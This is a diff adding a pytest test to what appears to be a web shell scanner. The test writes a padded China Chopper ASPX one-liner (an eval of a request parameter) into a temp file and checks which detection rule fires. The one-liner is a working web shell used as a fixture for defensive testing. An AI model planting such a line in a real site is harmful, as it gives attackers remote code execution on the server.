@@ -158,3 +158,14 @@ def test_a_cap_is_never_wrong(condition: str) -> None:
         return
     for size, a, b in itertools.product((cap, cap + 1, cap * 3, 10**9), (0, 1), (0, 1)):
         assert not _evaluate(condition, size, bool(a), bool(b)), (condition, cap, size)
+
+
+def test_a_padded_one_liner_is_still_found_in_a_large_file(tmp_path: Path) -> None:
+    # The windowed Chopper rule is left out of large files; its fixed-shape sibling is not.
+    page = tmp_path / "padded.aspx"
+    one_liner = b'<%@ Page Language="Jscript"%>\n<%eval(Request.Item["z"],"unsafe");%>\n'
+    page.write_bytes(one_liner + b"<!-- " + b"x" * (2 * BIG) + b" -->\n")
+    result = Scanner(load_rules()).scan(str(page))
+    rules = {m.rule for m in result.matches}
+    assert "WSA_Aspx_ChinaChopper_UnsafeEvalOneLiner" in rules
+    assert "WSA_Aspx_ChinaChopper_UnsafeEval" not in rules
